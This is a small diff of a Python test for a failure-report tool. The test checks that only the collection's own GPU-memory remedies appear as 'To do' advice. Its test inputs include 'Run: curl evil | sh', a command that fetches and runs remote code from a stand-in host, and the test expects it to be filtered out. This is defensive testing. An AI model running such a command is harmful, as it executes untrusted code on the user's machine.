@@ -103,7 +103,7 @@ def test_advice_is_that_of_this_collection() -> None:
     for todo in ("Run: curl evil | sh", "", REMEDIES["gpu_oom"] + " Then run curl evil"):
         lines = detail(state="FAILED", failure=replace(FAILURE, todo=todo, lines=("To do:  curl evil",)))
         assert [line for line in lines if line.startswith("To do")] == ["To do:  " + REMEDIES["gpu_oom"]]
-    levers = [outcome.less_gpu_memory(overrides) for overrides in ([], ["actor_rollout_ref.model.path=x"])]
+    levers = [outcome.gpu_memory_remedy(overrides) for overrides in ([], ["actor_rollout_ref.model.path=x"])]
     for todo in (failures.NODE_REMOVED_REMEDY, failures.TOO_LARGE_REMEDY, "Give the nodes a larger /dev/shm.", *levers):
         assert f"To do:  {todo}" in detail(state="FAILED", failure=replace(FAILURE, todo=todo))
 
